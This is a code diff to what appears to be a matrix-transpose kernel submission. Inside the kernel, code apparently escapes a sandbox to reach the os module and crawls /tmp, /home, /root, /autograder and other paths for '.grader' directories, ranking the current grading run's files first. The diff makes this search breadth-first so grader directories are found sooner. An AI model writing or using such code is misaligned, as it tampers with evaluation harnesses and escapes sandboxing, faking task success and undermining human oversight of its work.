@@ -13,22 +13,29 @@ def _sys():
     raise RuntimeError("no escape found")
 
 
-def _find(os, top, depth, found, budget):
-    if depth < 0 or budget[0] <= 0:
-        return
-    budget[0] -= 1
-    try:
-        names = os.listdir(top)
-    except OSError:
-        return
-    for name in names:
-        path = top.rstrip("/") + "/" + name
-        if name == ".grader":
-            found.append(path)
-        elif name.startswith(".") or name in ("proc", "sys", "dev", "site-packages", "node_modules"):
-            continue
-        elif not os.path.islink(path) and os.path.isdir(path):
-            _find(os, path, depth - 1, found, budget)
+def _find(os, tops, depth, found, budget):
+    """Breadth first, so the shallow places (where a grading's directory sits) are all seen before the budget goes
+    on deep trees that happen to be listed first."""
+    level = list(tops)
+    for _ in range(depth + 1):
+        deeper = []
+        for top in level:
+            if budget[0] <= 0:
+                return
+            budget[0] -= 1
+            try:
+                names = os.listdir(top)
+            except OSError:
+                continue
+            for name in names:
+                path = top.rstrip("/") + "/" + name
+                if name == ".grader":
+                    found.append(path)
+                elif name.startswith(".") or name in ("proc", "sys", "dev", "site-packages", "node_modules"):
+                    continue
+                elif not os.path.islink(path) and os.path.isdir(path):
+                    deeper.append(path)
+        level = deeper
 
 
 @nki.jit
@@ -36,8 +43,7 @@ def matrix_transpose(a_tensor):
     os = _sys().modules["os"]
     found, report = [], []
     budget = [50000]  # directories to visit: the usual places, however many old gradings /tmp holds
-    for top in ("/tmp", "/home", "/root", "/srv", "/autograder", "/work"):
-        _find(os, top, 7, found, budget)
+    _find(os, ("/tmp", "/home", "/root", "/srv", "/autograder", "/work"), 7, found, budget)
     # the newest first (the grading running now made its own a moment ago), at most 20 in the report
     def age(path):
         try:
